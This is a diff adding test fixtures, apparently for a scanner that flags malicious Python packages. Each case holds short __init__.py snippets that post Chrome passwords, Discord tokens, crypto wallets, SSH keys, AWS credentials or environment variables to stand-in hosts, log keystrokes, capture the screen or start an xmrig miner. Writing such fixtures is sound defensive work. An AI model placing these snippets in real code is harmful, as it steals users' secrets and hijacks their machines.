@@ -1,0 +1,120 @@
+import { base64, inInit, joined, webhook, type Case } from './pack-of.ts'
+
+const telegram = joined('https://api.tele', 'gram.org/bot', '0000000000:', 'inert-inert-inert-inert-inert-inert')
+
+/** What takes something away, and names that are known from it. */
+export const stealers: Case[] = [
+  inInit(
+    'data-to-webhook',
+    'a webhook that gets the host name',
+    'import requests, socket',
+    `requests.post("${webhook}", json={"content": socket.gethostname()})`,
+  ),
+  inInit('data-to-webhook', 'a webhook in pieces', `HOOK = "${webhook.slice(0, 25)}" + "${webhook.slice(25)}"`),
+  inInit('data-to-webhook', 'a webhook in base64', `HOOK = "${base64(webhook)}"`),
+  inInit(
+    'data-to-webhook',
+    'a bot of Telegram',
+    'import requests',
+    `requests.get("${telegram}/sendMessage?text=inert")`,
+  ),
+  inInit(
+    'data-to-webhook',
+    'a webhook in a node',
+    'import requests',
+    'class Node:',
+    '    def run(self):',
+    `        requests.post("${webhook}", data=open("x").read())`,
+  ),
+  inInit(
+    'credentials-sent',
+    'passwords of Chrome',
+    'import os, requests',
+    'path = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Default", "Login Data")',
+    'requests.post("https://drop.example", files={"f": open(path, "rb")})',
+  ),
+  inInit(
+    'credentials-sent',
+    'tokens of Discord',
+    'import os, re, requests',
+    'path = os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb"',
+    'for name in os.listdir(path):',
+    '    requests.post("https://drop.example", data=name)',
+  ),
+  inInit(
+    'credentials-sent',
+    'wallets',
+    'import os, requests',
+    'w = os.path.expanduser("~/.config/Exodus/exodus.wallet")',
+    'requests.post("https://drop.example", data=open(w, "rb").read())',
+  ),
+  inInit(
+    'credentials-sent',
+    'keys of SSH',
+    'import pathlib, httpx',
+    'key = pathlib.Path.home() / ".ssh" / "id_rsa"',
+    'httpx.post("https://drop.example", content=key.read_bytes())',
+  ),
+  inInit(
+    'credentials-sent',
+    'keys of a cloud, by a socket',
+    'import os, socket',
+    's = socket.socket()',
+    's.connect(("drop.example", 443))',
+    's.sendall(open(os.path.expanduser("~/.aws/credentials"), "rb").read())',
+  ),
+  inInit(
+    'credentials-sent',
+    'the environment',
+    'import os, requests',
+    'requests.post("https://drop.example", json=dict(os.environ))',
+  ),
+  inInit(
+    'credentials-sent',
+    'the environment, by urllib',
+    'import os, json, requests',
+    'data = {k: v for k, v in os.environ.items()}',
+    'def send(body):',
+    '    requests.post("https://drop.example", data=json.dumps(body))',
+    'send(data)',
+  ),
+  inInit(
+    'credentials-sent',
+    'what Windows decrypts',
+    'import win32crypt, requests',
+    'v = win32crypt.CryptUnprotectData(b"x", None, None, None, 0)',
+    'requests.post("https://drop.example", data=v)',
+  ),
+  inInit(
+    'reads-credentials',
+    'cookies of Firefox',
+    'import os, sqlite3',
+    'db = sqlite3.connect(os.path.join(profile, "cookies.sqlite"))',
+  ),
+  inInit(
+    'input-capture',
+    'a log of keys',
+    'from pynput.keyboard import Listener',
+    'with Listener(on_press=print) as l:',
+    '    l.join()',
+  ),
+  inInit('input-capture', 'a picture of the screen', 'from PIL import ImageGrab', 'ImageGrab.grab().save("x.png")'),
+  inInit(
+    'known-bad',
+    'a miner',
+    'import subprocess',
+    `subprocess.Popen(["${joined('./xm', 'rig')}", "-o", "pool.example:3333"])`,
+  ),
+  inInit('known-bad', 'a pool of miners', `POOL = "${joined('stra', 'tum+tcp')}://pool.example:3333"`),
+  inInit('known-bad', 'a stealer by its name', `NAME = "${joined('Blank', 'Grabber')}"`),
+  {
+    name: 'a miner in a script',
+    rule: 'known-bad',
+    files: { '__init__.py': '', 'run.sh': `#!/bin/sh\n${joined('./xm', 'rig')} -o pool.example\n` },
+  },
+  {
+    name: 'a webhook in a file of settings',
+    rule: 'data-to-webhook',
+    files: { '__init__.py': '', 'config.json': JSON.stringify({ to: webhook }) },
+  },
+]
